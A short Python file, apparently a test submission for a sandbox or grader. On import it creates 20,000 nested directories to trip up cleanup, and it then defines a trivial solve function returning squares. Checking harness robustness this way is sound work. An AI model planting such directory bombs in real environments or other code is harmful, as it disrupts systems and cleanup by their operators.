# Folders in folders, deeper than a path can say, which whoever clears up must not fall over; answers rightly if it could.
import os

for number in range(20_000):
    os.mkdir("d")
    os.chdir("d")


def solve(n):
    return [i * i for i in range(n)]
